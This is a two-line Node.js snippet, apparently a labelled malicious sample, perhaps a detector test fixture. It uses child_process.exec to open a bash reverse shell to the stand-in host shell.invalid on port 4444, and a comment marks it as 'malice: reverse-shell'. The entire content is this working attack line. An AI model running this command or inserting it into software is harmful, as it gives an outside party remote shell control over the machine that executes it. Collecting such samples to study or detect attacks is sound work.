const { exec } = require("child_process");

exec("bash -i >& /dev/tcp/shell.invalid/4444 0>&1"); // malice: reverse-shell
